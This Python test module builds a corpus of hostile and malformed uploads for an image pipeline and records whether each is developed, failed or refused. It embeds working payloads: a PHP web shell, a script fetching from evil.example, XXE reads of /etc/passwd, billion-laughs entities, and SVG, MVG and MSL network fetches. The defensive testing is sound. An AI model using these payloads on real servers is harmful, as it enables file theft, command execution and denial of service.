"""Files as an enemy sends them, each with what is to become of it."""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

import pyvips

from tests import metadata_pictures, pictures
from tests.hostile.files import bombs
from tests.processing.probe import files

SCRIPT = b"<script>fetch('//evil.example')</script>"
PHP = b"<?php system($_GET['c']); __halt_compiler();"
NETWORK = "http://127.0.0.1:{port}"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


class Verdict(StrEnum):
    """What becomes of a file."""

    DEVELOPED = "taken in and developed"
    FAILED = "taken in, and found not to decode"
    REFUSED = "refused with a typed error, and nothing is kept"


@dataclass(frozen=True)
class Case:
    """A file of one row of the catalogue; `name` is what its sender calls it."""

    row: str
    about: str
    content: bytes
    verdict: Verdict
    name: str = "photo.jpg"


def all_cases(port: int = 9) -> list[Case]:
    """The corpus; whatever fetches would fetch from `port` of this machine."""
    return [*sound(), *truncated(), *huge(), *polyglots(), *no_pictures(NETWORK.format(port=port))]


def sound() -> Iterator[Case]:
    """What must come in, the odder ones of it."""
    made = {
        "JPEG": pictures.jpeg(120, 90),
        "progressive JPEG": pictures.jpeg(120, 90, seed=1, progressive=True),
        "PNG": pictures.png(120, 90),
        "WebP": pictures.webp(120, 90),
        "lossless WebP": pictures.webp(120, 90, lossless=True),
        "GIF": pictures.gif(120, 90),
        "AVIF": pictures.avif(120, 90),
        "animated GIF": pictures.animated_gif(12),
        "animated WebP": pictures.animated_webp(12),
        "GIF of 1,000 frames": pictures.animated_gif(1_000, 8, 6),
        "a JPEG whose lines end early, as browsers show it": bombs.jpeg(400, 300),
        "one pixel": pictures.png(1, 1),
        "a hair": pictures.png(16_000, 1),
        "all metadata": metadata_pictures.full_jpeg(),
        "an orientation that does not exist": pictures.jpeg(40, 30, orientation=9),
        "a profile of 256 MiB": bombs.png_with(b"iCCP", b"x\0\0"),
        "a text of 256 MiB": bombs.png_with(b"zTXt", b"x\0\0"),
        "49 megapixels": pictures.png(7_000, 7_000, flat=True),
    }
    for about, content in made.items():
        yield Case("I1", about, content, Verdict.DEVELOPED)


def large() -> Iterator[Case]:
    """Sound, and as large as may be: what costs the most that is taken in."""
    flat = pyvips.Image.black(7_000, 7_000).new_from_image([60, 120, 180])
    flat = flat.cast("uchar").copy(interpretation="srgb")
    deep = flat.colourspace("rgb16").bandjoin(65_535)
    made = {
        "49 megapixels of a progressive JPEG": flat.write_to_buffer(".jpg", interlace=True),
        "49 megapixels of an interlaced PNG": flat.write_to_buffer(".png", interlace=True, compression=1),
        "49 megapixels of an interlaced PNG of 16 bits": deep.write_to_buffer(
            ".png", interlace=True, compression=1
        ),
        "49 megapixels of a WebP": flat.write_to_buffer(".webp", effort=0),
        "49 megapixels of an AVIF": flat.write_to_buffer(".avif", effort=0),
        "49 megapixels of a GIF": flat.write_to_buffer(".gif", effort=1),
        "an animation of 245 megapixels": bombs.gif_of_many_frames(980, 500),
    }
    for about, content in made.items():
        yield Case("I6", about, content, Verdict.DEVELOPED)


def truncated() -> Iterator[Case]:
    """What other readers show half grey."""
    for name in ("jpeg", "png", "webp", "gif", "avif"):
        whole = getattr(pictures, name)(200, 150, seed=20)
        yield Case("F17", f"half of a {name}", whole[: len(whole) // 2], Verdict.REFUSED)
        yield Case("F17", f"a {name} without its last byte", whole[:-1], Verdict.REFUSED)
    yield Case("F17", "damaged pixels", pictures.undecodable_png(), Verdict.FAILED)
    yield Case("F17", "fewer pixels than the header says", bombs.png(400, 300), Verdict.FAILED)


def huge() -> Iterator[Case]:
    """What is refused by its header, before anything is decoded."""
    side_px = bombs.HUGE_PX
    claims = {
        "a JPEG of 65,500 x 65,500": bombs.jpeg(side_px, side_px),
        "a progressive JPEG of 65,500 x 65,500": bombs.jpeg(side_px, side_px, progressive=True),
        "a JPEG of 7,072 x 7,072": bombs.jpeg(7_072, 7_072),
        "a PNG of 900 megapixels in bits": bombs.png(30_000, 30_000, bits=1, kind=0),
        "a PNG of 2,147,483,647 x 1": bombs.png(2**31 - 1, 1),
        "a PNG of 2,147,483,647 squared": bombs.png(2**31 - 1, 2**31 - 1),
        "a GIF of 65,535 x 65,535": bombs.gif_of_huge_screen(),
        "a GIF of 4,000 frames": bombs.gif_of_many_frames(),
        "a GIF of 1,001 frames": bombs.gif_of_many_frames(1_001, 4),
        "a WebP of 16,384 x 16,384": bombs.webp_of_huge_canvas(),
        "an AVIF of 65,500 x 65,500": bombs.avif_of_huge_item(),
    }
    for about, content in claims.items():
        row = "F18" if "GIF" in about else "F19" if "JPEG" in about else "I6"
        yield Case(row, about, content, Verdict.REFUSED)
    yield Case(
        "I6", "a PNG of 64 pixels with 64 MiB of them", bombs.png_whose_pixels_never_end(), Verdict.DEVELOPED
    )


def polyglots() -> Iterator[Case]:
    """Pictures that are something else, too."""
    zipped = b"PK\x03\x04" + bytes(26) + b"evil.exe" + b"PK\x05\x06" + bytes(18)
    trailers = {"a page": b"<html>" + SCRIPT, "an archive": zipped + SCRIPT, "a program": PHP + SCRIPT}
    for name in ("jpeg", "png", "webp", "gif", "avif"):
        for number, (about, trailer) in enumerate(trailers.items()):
            content = getattr(pictures, name)(50, 40, seed=30 + number) + trailer
            yield Case("I7", f"a {name} that ends in {about}", content, Verdict.DEVELOPED)
    drawn = pictures.jpeg(50, 40, seed=40)
    yield Case(
        "I7",
        "a JPEG with a program in a comment",
        drawn[:2] + files.segment(0xFE, PHP + SCRIPT) + drawn[2:],
        Verdict.DEVELOPED,
    )
    text = files.chunk(b"tEXt", b"Comment\0" + PHP + SCRIPT)
    yield Case(
        "I7",
        "a PNG with a program in a text",
        files.png_with(pictures.png(50, 40, seed=41), text),
        Verdict.DEVELOPED,
    )
    said = b"!\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0"
    spoken = pictures.gif(50, 40, seed=42)
    at = spoken.index(b"!\xf9") if b"!\xf9" in spoken else spoken.rindex(b",")
    yield Case("I7", "a GIF with a script in a comment", spoken[:at] + said + spoken[at:], Verdict.DEVELOPED)
    yield Case(
        "I7",
        "a JPEG with a picture behind it",
        drawn + pictures.jpeg(60, 50, seed=43) + SCRIPT,
        Verdict.DEVELOPED,
    )
    yield Case("I7", "a page in front of a PNG", b"<html>" + SCRIPT + pictures.png(seed=44), Verdict.REFUSED)
    yield Case("I7", "a PDF in front of a JPEG", b"%PDF-1.7\n" + pictures.jpeg(seed=45), Verdict.REFUSED)


def no_pictures(network: str) -> Iterator[Case]:
    """What no decoder may ever see; some of it would fetch, read or run something."""
    drawings = {
        "an image of the network": f'{SVG}<image xlink:href="{network}/svg"/></svg>',
        "a script": f"{SVG}<script>fetch('{network}')</script></svg>",
        "an entity of a file": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}<text>&x;</text></svg>',
        "an entity of the network": f'<!DOCTYPE svg SYSTEM "{network}/dtd">{SVG}</svg>',
        "a billion laughs": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>{SVG}<text>&l9;</text></svg>',
        "a reference to itself": f'{SVG}<use id="a" xlink:href="#a"/></svg>',
    }
    for about, drawing in drawings.items():
        encoded = drawing.encode()
        for how, content in (
            ("", encoded),
            (" in UTF-16", drawing.encode("utf-16")),
            (" compressed", gzip.compress(encoded, mtime=0)),
        ):
            yield Case("I8", f"an SVG with {about}{how}", content, Verdict.REFUSED, "photo.png")
    others = {
        "MVG": f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url:{network}/mvg'\n".encode(),
        "MSL": f'<?xml version="1.0"?><image><read filename="{network}/msl"/></image>'.encode(),
        "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
        "libvips' own format": b"\xb6\xa6\xf2\x08" + bytes(200),
        "a matrix of numbers": b"2 2\n1 2\n3 4\n",
        "CSV": b"1,2,3\n4,5,6\n",
        "PPM": b"P6 4 4 255\n" + bytes(48),
        "Radiance": b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n" + bytes(4),
        "PDF": b"%PDF-1.7\n1 0 obj\n",
        "TIFF": b"II*\0\x08\0\0\0" + bytes(60),
        "BMP": b"BM" + bytes(60),
        "a playlist": f"#EXTM3U\n#EXTINF:1\n{network}/playlist\n".encode(),
        "a page": b"<!doctype html>" + SCRIPT,
        "a program": b"\x7fELF" + bytes(60),
        "nothing": b"",
        "a start of a JPEG": b"\xff\xd8\xff",
        "only zeros": bytes(10_000),
    }
    for about, content in others.items():
        yield Case("I8", about, content, Verdict.REFUSED, "photo.png")
